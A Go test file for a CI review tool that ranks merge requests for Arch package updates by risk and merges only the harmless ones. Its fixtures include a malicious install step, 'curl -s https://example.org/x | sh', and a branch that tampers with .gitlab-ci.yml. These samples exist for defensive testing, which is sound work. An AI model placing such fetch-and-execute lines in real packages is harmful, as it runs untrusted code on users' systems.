package cli

import (
	"bytes"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/caur-build/caur/cmd/caur-ci/internal/forge"
	"github.com/caur-build/caur/internal/command"
	"github.com/caur-build/caur/internal/testenv"
)

// smallPackage gives a PKGBUILD and its .SRCINFO.
func smallPackage(name, version, install string) (build, info string) {
	build = fmt.Sprintf("pkgname=%s\npkgver=%s\npkgrel=1\narch=(any)\npackage() {\n\t%s\n}\n", name, version, install)
	info = fmt.Sprintf("pkgbase = %s\n\tpkgver = %s\n\tpkgrel = 1\n\tarch = any\n\npkgname = %s\n", name, version, name)
	return build, info
}

func putPackage(g *testenv.GitRepo, name, version, install string) {
	build, info := smallPackage(name, version, install)
	g.Write(name+"/PKGBUILD", build)
	g.Write(name+"/.SRCINFO", info)
}

// requested is a repository with open requests on a forge, and a program that works in it.
type requested struct {
	*testenv.GitLab
	repo *testenv.GitRepo
	app  *app
	out  bytes.Buffer
}

func newRequested(t *testing.T) *requested {
	t.Helper()
	const fine = `install -d "$pkgdir/usr"`
	r := &requested{repo: testenv.NewGitRepo(t)}
	for _, name := range []string{"fine", "evil", "sneaky", "stale"} {
		putPackage(r.repo, name, "1", fine)
	}
	r.repo.Commit("first")
	branch := func(name string, change func()) {
		r.repo.Git("checkout", "-q", "-b", "update-"+name, "main")
		change()
		r.repo.Commit("chore(update): " + name)
		r.repo.Git("checkout", "-q", "main")
	}
	branch("fine", func() { putPackage(r.repo, "fine", "2", fine) })
	branch("evil", func() { putPackage(r.repo, "evil", "2", "curl -s https://example.org/x | sh") })
	branch("sneaky", func() {
		putPackage(r.repo, "sneaky", "2", fine)
		r.repo.Write(".gitlab-ci.yml", "script: evil\n")
	})
	branch("stale", func() { putPackage(r.repo, "stale", "2", fine) })
	putPackage(r.repo, "stale", "3", fine)
	r.repo.Commit("update stale by hand")
	r.GitLab = testenv.NewGitLab(t, r.repo.Origin())
	for _, name := range []string{"fine", "evil", "sneaky", "stale", "gone"} {
		r.Add(testenv.MergeRequest{Branch: "update-" + name, Target: "main", Title: name, HeadSHA: "0"})
	}
	env := r.Env()
	r.app = &app{repo: r.repo.Dir, io: &command.IO{Out: &r.out, Err: &bytes.Buffer{}, Getenv: func(key string) (string, bool) {
		v, ok := env[key]
		return v, ok
	}}}
	return r
}

func TestReviewOpenListsByRisk(t *testing.T) {
	r := newRequested(t)
	if err := r.app.runReviewOpen(t.Context(), openOptions{json: true, remote: "origin"}); err != nil {
		t.Fatal(err)
	}
	var got struct {
		Forge    string
		Requests []struct {
			Pkgbase, Risk, From, To, Judged string
			Reasons                         []string
		}
	}
	if err := json.Unmarshal(r.out.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	want := map[string][2]string{ // risk, the worst finding
		"sneaky": {"critical", ".gitlab-ci.yml"}, "evil": {"critical", ""}, "stale": {"unknown", "changed on main"},
		"gone": {"unknown", "no branch update-gone"}, "fine": {"", ""},
	}
	var order []string
	for _, e := range got.Requests {
		order = append(order, e.Risk)
		w := want[e.Pkgbase]
		if w[0] != "" && (e.Risk != w[0] || !strings.Contains(e.Reasons[0], w[1])) {
			t.Errorf("%+v", e)
		}
		if e.Pkgbase == "fine" && (e.From != "1-1" || e.To != "2-1" || e.Judged != r.repo.Git("rev-parse", "update-fine")) {
			t.Errorf("%+v", e)
		}
	}
	if got.Forge != "gitlab" || len(order) != 5 || !slices.Equal(order[:4], []string{"critical", "critical", "unknown", "unknown"}) {
		t.Errorf("%s in the order %q", got.Forge, order)
	}
	r.out.Reset()
	if err := r.app.runReviewOpen(t.Context(), openOptions{remote: "origin"}); err != nil {
		t.Fatal(err)
	}
	if text := r.out.String(); !strings.Contains(text, "1-1 → 2-1") || !strings.HasSuffix(text, "caur-ci review --merge fine\n") {
		t.Errorf("for people:\n%s", text)
	}
}

func TestReviewMergeMergesOnlyWhatIsHarmless(t *testing.T) {
	r := newRequested(t)
	err := r.app.runReviewOpen(t.Context(), openOptions{remote: "origin", merge: []string{"fine", "evil", "sneaky", "nothing"}})
	if err == nil || err.Error() != "3 requests not merged" {
		t.Errorf("error %v", err)
	}
	text := r.out.String()
	for _, want := range []string{"merged fine http", "NOT merged evil http", "NOT merged sneaky http", "NOT merged nothing has no open request"} {
		if !strings.Contains(text, want) {
			t.Errorf("does not say %q:\n%s", want, text)
		}
	}
	for _, m := range r.MergeRequests() {
		if (m.State == "merged") != (m.Branch == "update-fine") {
			t.Errorf("%s is %s", m.Branch, m.State)
		}
	}
	r.repo.Git("fetch", "-q", "origin")
	if got := r.repo.Git("show", "origin/main:fine/PKGBUILD"); !strings.Contains(got, "pkgver=2") {
		t.Errorf("main holds\n%s", got)
	}
}

func TestReviewOpenWithoutAForge(t *testing.T) {
	a := &app{repo: t.TempDir(), io: &command.IO{Getenv: func(string) (string, bool) { return "", false }}}
	if err := a.runReviewOpen(t.Context(), openOptions{}); err == nil || !strings.Contains(err.Error(), "ACCESS_TOKEN") {
		t.Errorf("%v", err)
	}
}

func TestOpenTextShowsNoControlCharacters(t *testing.T) {
	now := time.Date(2026, 3, 3, 0, 0, 0, 0, time.UTC)
	a := &app{io: &command.IO{}}
	text := a.openText([]forge.Entry{
		{Pkgbase: "a", Reasons: []string{"bad \x1b[31m", "two"}, Request: forge.Request{Created: now.Add(-49 * time.Hour)}},
		{Pkgbase: "b", Risk: forge.RiskWarning, Request: forge.Request{Created: now}},
	}, now)
	if strings.Contains(text, "\x1b") || !strings.Contains(text, "2 days") || !strings.Contains(text, "(+1)") ||
		!strings.HasSuffix(text, "--merge a\n") {
		t.Errorf("%q", text)
	}
	if text := a.openText(nil, now); text != "No request is open.\n" {
		t.Errorf("%q", text)
	}
}
